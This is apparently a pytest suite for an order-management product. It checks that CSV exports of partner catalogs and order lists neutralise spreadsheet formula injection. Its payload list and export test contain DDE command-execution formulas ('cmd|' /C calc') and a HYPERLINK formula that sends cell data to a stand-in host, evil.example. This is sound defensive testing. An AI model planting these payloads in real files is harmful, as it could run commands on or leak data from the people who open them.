"""CSV injection: partner-supplied text written to CSV can never start a spreadsheet formula.

The formats package writes CSV through ``write_csv`` (every cell through ``neutralize_csv_cell``).
A partner's catalog is the attacker here: its descriptions and attributes end up in files opened
by people in Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orderhub.formats.catalog import CatalogArticle
from orderhub.formats.catalog_csv import CSV_COLUMNS, neutralize_csv_cell, write_csv
from orderhub.formats.catalog_reader import read_catalog

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


def _rows(data: bytes, delimiter=";", encoding="utf-8"):
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


def _article(value: str, **overrides) -> CatalogArticle:
    fields = dict(
        partner_article_number="SAFE-1",
        short_description=value,
        long_description=value,
        manufacturer_name=value,
        manufacturer_article_number=value,
        order_unit="C62",
        price=Decimal("-1.50"),
        attributes={"colour": value, "model": value, "category": value},
    )
    fields.update(overrides)
    return CatalogArticle(**fields)


def _folded(value: str) -> str:
    return " ".join(value.split())


def _assert_no_formula(rows):
    for row in rows[1:]:
        for label, cell in zip((c[0] for c in CSV_COLUMNS), row, strict=True):
            assert not cell.startswith(FORMULA_START), (
                f"column {label!r} starts a formula: {cell!r}"
            )


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: repr(p[:12]))
@pytest.mark.parametrize(
    "delimiter, encoding", [(";", "utf-8"), (",", "utf-8-sig"), (";", "cp1252")]
)
def test_write_csv_neutralises_formulas_in_every_column(payload, delimiter, encoding):
    out = io.BytesIO()
    assert (
        write_csv(
            [_article(payload), _article(payload, partner_article_number=payload)],
            out,
            delimiter=delimiter,
            encoding=encoding,
        )
        == 2
    )
    rows = _rows(out.getvalue(), delimiter, encoding)
    _assert_no_formula(rows)
    description = rows[1][[c[0] for c in CSV_COLUMNS].index("Kurzbeschreibung")]
    expected = payload.encode(encoding, "replace").decode(encoding)
    assert description == "'" + expected


def test_written_csv_reads_back_to_the_original_values(tmp_path):
    """Neutralising must not corrupt data: OrderHub's own reader strips the quote again."""
    articles = [
        _article(p, partner_article_number=f"A-{i}")
        for i, p in enumerate(PAYLOADS)
        if "\r" not in p
    ]
    path = tmp_path / "catalog.csv"
    with open(path, "wb") as out:
        write_csv(articles, out)
    with read_catalog(path) as reader:
        reader.read_header()
        back = [a for a in reader if isinstance(a, CatalogArticle)]
    # The reader trims and folds whitespace in cells (by design); the formula text itself survives.
    assert [a.short_description for a in back] == [_folded(a.short_description) for a in articles]


def test_negative_price_is_written_as_a_number_not_a_formula():
    out = io.BytesIO()
    write_csv([_article("harmlos")], out, delimiter=",")
    price = _rows(out.getvalue(), ",")[1][[c[0] for c in CSV_COLUMNS].index("Preis")]
    assert price in ("'-1.50", "-1.50")


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=30), st.sampled_from(FORMULA_START + ("", "'", " ")))
def test_no_written_cell_ever_starts_a_formula(text, prefix):
    value = prefix + text
    assert not neutralize_csv_cell(value).startswith(FORMULA_START)
    out = io.BytesIO()
    write_csv([_article(value)], out)
    _assert_no_formula(_rows(out.getvalue()))


def test_a_catalog_uploaded_with_formulas_is_stored_as_text_and_exported_neutralised(
    world, django_capture_on_commit_callbacks
):
    """End to end: a partner uploads formulas, OrderHub stores them verbatim, CSV output is safe."""
    from orderhub.catalog.models import Article
    from tests.security.test_xml_attacks import upload_catalog

    source = io.BytesIO()
    write_csv(
        [
            _article(p, partner_article_number=f"EVIL-{i}")
            for i, p in enumerate(PAYLOADS)
            if "\r" not in p
        ],
        source,
    )
    r, job = upload_catalog(
        world.partner_tokens["otoplast"], source.getvalue(), django_capture_on_commit_callbacks
    )
    assert r.status_code == 202 and job.status == "succeeded", (r.json_body, job and job.error)
    stored = list(
        Article.objects.filter(partner__slug="otoplast").order_by("partner_article_number")
    )
    assert {a.short_description for a in stored} == {_folded(p) for p in PAYLOADS if "\r" not in p}

    exported = io.BytesIO()
    write_csv(
        [
            CatalogArticle(
                partner_article_number=a.partner_article_number,
                short_description=a.short_description,
                long_description=a.long_description,
                attributes=a.attributes,
            )
            for a in stored
        ],
        exported,
    )
    _assert_no_formula(_rows(exported.getvalue()))


def test_every_csv_writer_in_the_product_goes_through_write_csv():
    """Any module writing CSV must neutralise; a bare csv.writer outside catalog_csv is flagged."""
    src = Path(__file__).resolve().parents[2] / "src" / "orderhub"
    offenders = []
    for path in src.rglob("*.py"):
        if path.name == "catalog_csv.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", text) and "neutralize_csv_cell" not in text:
            offenders.append(str(path.relative_to(src)))
    assert offenders == [], f"CSV written without neutralize_csv_cell in {offenders}"


# --- the product's CSV export (dashboard order list) -------------------------------------------------


def test_order_export_neutralises_formulas_from_the_practice_and_the_partner(world):
    """``/dashboard/bestellungen/export.csv``: practice text (references, ids) and partner text
    (tracking numbers from a dispatch notification) never start a formula in the file."""
    from datetime import datetime

    from orderhub.formats import partner_json
    from orderhub.formats.documents import AnswerLine, PartnerAnswer
    from tests.conftest import ApiClient
    from tests.ordering.conftest import order_body, submit

    if "dashboard/bestellungen/export.csv" not in {str(p.pattern) for p in _order_urlpatterns()}:
        pytest.skip("no order CSV export route")
    r = submit(
        world.a.api,
        order_body("=cmd|' /C calc'!A0", reference="+SUM(1+1)*cmd|' /C calc'!A0", note="-2+3"),
        key="csv-injection",
    )
    assert r.status_code == 201, r.json_body

    sent = world.a.orders["sent"]
    answer = PartnerAnswer(
        kind="dispatch_notification",
        order_number=sent.number,
        document_id="DESADV-CSV",
        issued_at=datetime.now(UTC),
        tracking_numbers=['=HYPERLINK("http://evil.example")', "@SUM(1)"],
        carrier="-1+1",
        lines=[AnswerLine(line_no=1, status="shipped", quantity=Decimal(2))],
    )
    r = ApiClient(world.partner_tokens["sonora"]).post(
        "/api/v1/partner/documents",
        raw=partner_json.write_answer(answer),
        content_type="application/json",
    )
    assert r.status_code == 202, r.content[:300]

    response = world.a.browser.get("/dashboard/bestellungen/export.csv")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) >= 5
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula in export: {cell!r} (row {row})"
    flat = "\n".join(";".join(r) for r in rows)
    assert "'=cmd|' /C calc'!A0" in flat and "'+SUM(1+1)" in flat and "'=HYPERLINK(" in flat


def _order_urlpatterns():
    from orderhub.ordering import urls

    return urls.urlpatterns
